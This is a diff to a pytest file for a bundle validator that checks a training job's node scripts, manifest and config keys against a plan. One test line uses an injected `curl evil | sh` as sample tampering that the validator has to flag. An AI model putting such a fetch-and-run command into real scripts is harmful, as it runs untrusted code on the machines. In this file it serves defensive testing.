@@ -63,31 +63,22 @@ def test_a_script_that_is_not_what_topoplan_writes_is_a_warning_at_its_line(bund
     assert f"lines {line} to {line + 1} are changed: `set -e`, `curl evil | sh`" in finding.what
 
 
-def test_a_missing_script_is_an_error(bundle: Path) -> None:
-    (bundle / "node-01.sh").unlink()
-    (finding,) = told(bundle)
-
-    assert (finding.rule, finding.severity) == ("bundle-missing-file", "error")
-    assert finding.part.name.endswith("node-01.sh")
-
-
-def test_a_script_that_the_manifest_forgot_is_missed_all_the_same(bundle: Path) -> None:
+@pytest.mark.parametrize("forgotten", [False, True])
+def test_a_missing_script_is_an_error_whatever_the_manifest_says(bundle: Path, forgotten: bool) -> None:
     manifest = json.loads((bundle / MANIFEST).read_text())
-    del manifest["files"]["node-01.sh"]
+    if forgotten:
+        del manifest["files"]["node-01.sh"]
     (bundle / MANIFEST).write_text(json.dumps(manifest))
     (bundle / "node-01.sh").unlink()
 
     (finding,) = told(bundle)
     assert (finding.rule, finding.severity) == ("bundle-missing-file", "error")
-    assert finding.what.startswith("is missing: the plan has ")
+    assert finding.what.startswith("is missing: the plan has ") if forgotten else finding.part.name.endswith("1.sh")
 
 
 def test_a_key_that_left_the_plan_is_named_with_both_values(bundle: Path) -> None:
     steps = json.loads((bundle / "plan.json").read_text())["layout"]["gradient_accumulation_steps"]
-    edit(
-        bundle / "train.yaml",
-        lambda text: text.replace(f"gradient_accumulation_steps: {steps}", "gradient_accumulation_steps: 64"),
-    )
+    edit(bundle / "train.yaml", lambda text: text.replace(f"accumulation_steps: {steps}", "accumulation_steps: 64"))
     finding = next(one for one in told(bundle) if one.rule == "bundle-other-plan")
 
     assert finding.severity == "warning"
@@ -101,12 +92,7 @@ def test_a_key_that_left_the_plan_is_named_with_both_values(bundle: Path) -> Non
     [
         ({"backend": "ddp"}, None, "cutoff_len: ", "cutoff_len is 7, and plan.json was predicted for 4096"),
         ({"backend": "megatron", "tp": 2}, "swift", "sequence_parallel: ", "sequence_parallel is 7, and "),
-        (
-            {"backend": "deepspeed", "zero_stage": 2},
-            "swift",
-            "gradient_checkpointing: ",
-            "gradient_checkpointing is 7, and ",
-        ),
+        ({"backend": "deepspeed", "zero_stage": 2}, "swift", "gradient_checkpointing: ", "gradient_checkpointing is 7"),
     ],
 )
 def test_edited_keys_of_every_trainer_are_told(
@@ -122,16 +108,10 @@ def test_edited_keys_of_every_trainer_are_told(
 
 
 def test_a_key_that_was_taken_out_has_its_default(bundle: Path) -> None:
-    edit(
-        bundle / "train.yaml",
-        lambda text: "".join(
-            line for line in text.splitlines(keepends=True) if not line.startswith("use_distributed_optimizer")
-        ),
-    )
+    edit(bundle / "train.yaml", lambda text: re.sub(r"use_distributed_optimizer.*\n", "", text))
 
-    assert "use_distributed_optimizer is false, and plan.json was predicted for true" in [
-        one.what for one in told(bundle)
-    ]
+    what = "use_distributed_optimizer is false, and plan.json was predicted for true"
+    assert what in [one.what for one in told(bundle)]
 
 
 def with_plan(bundle: Path, **values: Any) -> list[Finding]:
